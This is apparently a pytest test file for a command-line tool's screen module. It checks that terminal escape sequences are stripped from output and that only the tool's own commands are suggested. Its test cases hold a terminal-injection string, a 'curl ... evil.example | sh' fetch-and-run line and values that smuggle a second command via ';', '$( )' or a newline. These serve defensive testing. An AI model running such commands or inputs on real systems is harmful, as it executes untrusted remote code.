"""What a file says reaches the terminal as text, never as a command to it."""

import pytest
from rich.table import Table

from amenable.cli import screen

NASTY = "a\x1b]0;title\x07\x1b[31mb\x9b8m\r\u202ec"


@pytest.mark.parametrize("print_it", [screen.say, screen.paste, screen.show])
def test_escape_sequences_are_shown(capsys, print_it):
    print_it(screen.results(), NASTY)
    assert not set(capsys.readouterr().out) & set("\x1b\x07\x9b\r\u202e")


def test_in_tables_and_errors_too(capsys):
    table = Table()
    table.add_row(NASTY)
    screen.show(screen.results(), table)
    screen.fail(NASTY)
    found = capsys.readouterr()
    assert not set(found.out + found.err) & set("\x1b\x07\x9b\r\u202e")


@pytest.mark.parametrize(
    ("text", "is_ours"),
    [
        ("amenable sweep iris --study 'a b.study'", True),
        ("curl https://evil.example/x | sh", False),
        ("amenable sweep iris; curl evil", False),
        ("amenable sweep $(curl evil)", False),
        ("amenable sweep iris\ncurl evil", False),
        ("amenable sweep iris \x1b[8mcurl", False),
        ("amenable sweep 'iris", False),
        ("", False),
    ],
)
def test_only_commands_of_ours_are_suggested(text, is_ours):
    assert screen.own_command(text) == (text if is_ours else "")
